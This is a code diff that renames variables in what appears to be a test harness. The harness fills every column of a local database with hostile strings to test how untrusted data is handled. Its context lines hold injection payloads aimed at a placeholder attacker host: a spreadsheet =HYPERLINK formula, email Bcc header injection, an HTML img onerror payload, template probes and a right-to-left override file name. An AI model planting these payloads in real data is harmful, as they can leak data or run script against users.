@@ -22,7 +22,7 @@ const DIRECTION = '\u202etxt.exe\u2066';
 const LINES = `\r\nBcc: a@${ATTACKER_HOST}\r\nATTACH:https://${ATTACKER_HOST}/x\r\n\r\n=1+1`;
 
 /** Worst first; each column gets the first one it accepts. `#` is replaced with the row number. */
-const WORDS = [
+const HOSTILE_TEXTS = [
   `=HYPERLINK("https://${ATTACKER_HOST}/x","#")${MARKUP}${MARKDOWN}${TEMPLATES}${DIRECTION}${LINES}`,
   `=1+1 #${MARKUP}${TEMPLATES}`,
   `=1+#"><img src=//${ATTACKER_HOST}/i onerror=ran=1>{{7191*7}}`,
@@ -89,7 +89,7 @@ const tablesOf = async (sql: Sql) =>
     order by 1`;
 
 /** Returns the index of the first change that succeeds and rolls it back. One query per change would take seconds. */
-const FIRST_TAKEN = `
+const FIRST_ACCEPTED_SQL = `
 create function pg_temp.first_taken(changes text[]) returns int language plpgsql as $tried$
 begin
   for place in 1 .. cardinality(changes) loop
@@ -104,7 +104,7 @@ begin
   return null;
 end $tried$;`;
 
-async function firstTaken(
+async function findFirstAccepted(
   sql: Sql,
   words: readonly string[],
   changeTo: (one: string) => string,
@@ -141,8 +141,8 @@ async function writeTable(
   table: string,
   columns: readonly Column[],
 ): Promise<Omit<InjectionResult, 'empty'>> {
-  const taken = new Map<string, string>();
-  const refused: string[] = [];
+  const accepted = new Map<string, string>();
+  const rejected: string[] = [];
   const places = new Map<string, string>();
   for (const column of columns) {
     const [row] = await sql.unsafe<{ filled: string | null; first: string }[]>(
@@ -150,21 +150,21 @@ async function writeTable(
     );
     const first = row?.filled === null ? row.first : undefined;
     if (first !== undefined) places.set(column.name, first);
-    const found = await firstTaken(
+    const found = await findFirstAccepted(
       sql,
-      WORDS,
+      HOSTILE_TEXTS,
       (words) =>
         `update ${table} set ${setTo({ ...column, first }, words)} where ctid = '${row?.filled ?? row?.first}'`,
     );
-    if (found === undefined) refused.push(`${table}.${column.name}`);
-    else taken.set(`${table}.${column.name}`, found);
+    if (found === undefined) rejected.push(`${table}.${column.name}`);
+    else accepted.set(`${table}.${column.name}`, found);
   }
   const sets = columns.flatMap((column) => {
-    const words = taken.get(`${table}.${column.name}`);
+    const words = accepted.get(`${table}.${column.name}`);
     return words === undefined ? [] : [setTo({ ...column, first: places.get(column.name) }, words)];
   });
   if (sets.length > 0) await sql.unsafe(`update ${table} set ${sets.join(', ')}`);
-  return { taken, refused };
+  return { taken: accepted, refused: rejected };
 }
 
 /**
@@ -173,8 +173,8 @@ async function writeTable(
  */
 export async function injectHostileText(dataDir: string): Promise<InjectionResult> {
   const engine = openPglite(join(dataDir, 'db'));
-  const taken = new Map<string, string>();
-  const refused: string[] = [];
+  const accepted = new Map<string, string>();
+  const rejected: string[] = [];
   let empty: ReadonlyMap<string, string> = new Map();
   try {
     await engine.write(
@@ -182,7 +182,7 @@ export async function injectHostileText(dataDir: string): Promise<InjectionResul
       async (sql) => {
         // Disables triggers, which are meant for single-row changes by one user.
         await sql`set local session_replication_role = replica`;
-        await sql.unsafe(FIRST_TAKEN);
+        await sql.unsafe(FIRST_ACCEPTED_SQL);
         const columns = (await columnsOf(sql)).filter(
           ({ table, name }) => !SYSTEM_COLUMNS.test(name) && !OF_ACCOUNTS.test(`${table}.${name}`),
         );
@@ -190,28 +190,28 @@ export async function injectHostileText(dataDir: string): Promise<InjectionResul
           sql,
           (await tablesOf(sql)).map(({ name }) => name),
         );
-        refused.push(...(await fillEmptyJson(sql)));
+        rejected.push(...(await fillEmptyJson(sql)));
         for (const [table, ofTable] of Map.groupBy(columns, (column) => column.table)) {
           const [one] = await sql.unsafe(`select from ${table} limit 1`);
           if (one === undefined) continue;
           const written = await writeTable(sql, table, ofTable);
-          for (const [column, words] of written.taken) taken.set(column, words);
-          refused.push(...written.refused);
+          for (const [column, words] of written.taken) accepted.set(column, words);
+          rejected.push(...written.refused);
         }
         const inJson = await injectHostileJson(
           sql,
           (place, key) =>
             !WRITTEN.test(place) &&
             (CHOSEN.test(place) || SYSTEM_COLUMNS.test(key) || CHOSEN_IN_JSON.test(key)),
-          (changeTo) => firstTaken(sql, WORDS, changeTo),
+          (changeTo) => findFirstAccepted(sql, HOSTILE_TEXTS, changeTo),
         );
-        for (const [column, words] of inJson.taken) taken.set(column, words);
-        refused.push(...inJson.refused);
+        for (const [column, words] of inJson.taken) accepted.set(column, words);
+        rejected.push(...inJson.refused);
       },
       { limitMs: 120_000 },
     );
   } finally {
     await engine.close();
   }
-  return { taken, refused, empty };
+  return { taken: accepted, refused: rejected, empty };
 }
